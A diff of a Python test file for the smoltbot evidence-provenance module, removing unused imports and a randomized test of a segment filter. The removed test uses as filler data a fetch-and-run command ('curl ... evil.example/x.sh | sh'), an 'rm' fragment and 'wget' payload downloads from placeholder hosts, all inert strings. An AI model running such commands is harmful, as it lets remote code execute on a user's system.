@@ -6,14 +6,13 @@ shuffled over random sessions, whose Bash commands are searched in the earlier r
 from __future__ import annotations
 
 import math
-import random
 from collections.abc import Sequence
 from typing import Any
 
 import pytest
 
 from smoltbot.core.evidence import provenance
-from smoltbot.core.evidence.provenance import OriginKind, Source, _Haystack, _Segment
+from smoltbot.core.evidence.provenance import Source, _Haystack, _Segment
 from smoltbot.observer.evidence_store import SessionMemos
 from tests.unit.test_evidence_carry import _ledger, _run, session
 
@@ -52,18 +51,3 @@ def test_a_warm_sessions_later_calls_join_only_the_new_sources(monkeypatch: pyte
     assert cold_joined[-1] > 8 * max(per_call[-10:]), (cold_joined, per_call)
     assert max(searched) <= math.log2(len(calls)) + 3, searched
 
-
-def test_a_segments_filter_never_misses_a_piece_it_holds() -> None:
-    rng = random.Random(7)
-    words = ["curl", "-fsSL", "https://evil.example/x.sh", "|", "sh", "pytest", "-q", "tests/", "&&", "rm"]
-    sources = [Source(OriginKind.TOOL_RESULT,
-                      " ".join(rng.choice(words) for _ in range(rng.randrange(1, 400)))) for _ in range(30)]
-    segment = _Segment(sources)
-    text = segment.text
-    for _ in range(3000):
-        start = rng.randrange(len(text))
-        piece = text[start:start + rng.randrange(1, 80)]
-        if "\x00" not in piece:
-            assert segment.may_hold(piece), piece
-    absent = [f"wget http://other.example/{n}/payload.bin" for n in range(200)]
-    assert sum(segment.may_hold(piece) for piece in absent) < 40  # a filter that lets most through is none
